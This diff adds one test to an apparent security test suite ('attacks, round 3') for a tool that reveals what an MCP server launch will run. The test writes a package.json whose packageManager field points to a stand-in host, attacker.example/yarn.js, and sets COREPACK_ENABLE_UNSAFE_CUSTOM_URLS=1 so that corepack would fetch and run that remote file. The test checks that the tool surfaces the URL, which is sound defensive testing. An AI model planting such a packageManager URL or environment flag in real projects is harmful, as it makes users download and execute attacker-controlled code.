@@ -109,6 +109,13 @@ describe('attacks, round 3', function () {
   });
 
   describe("settings files the server's own environment points the runner to", () => {
+    it("package.json's packageManager URL (with COREPACK_ENABLE_UNSAFE_CUSTOM_URLS=1 in the entry): what corepack's yarn downloads and runs is shown", () => {
+      // Corepack 0.34 (checked): from a folder under this package.json, `yarn` fetches and runs the URL's file.
+      fs.writeFileSync(path.join(dir, 'package.json'), '{ "packageManager": "yarn@https://attacker.example/yarn.js" }\n');
+      const text = shown('yarn', ['dlx', 'some-mcp-server'], { COREPACK_ENABLE_UNSAFE_CUSTOM_URLS: '1' });
+      assert.ok(text.includes('attacker.example/yarn.js'), `the package manager corepack runs is shown: ${text || '(nothing listed)'}`);
+    });
+
     it('NPM_CONFIG_USERCONFIG set by the workspace entry: the .npmrc it names is listed', () => {
       fs.mkdirSync(path.join(dir, 'conf'));
       const npmrc = path.join(dir, 'conf', 'npmrc');
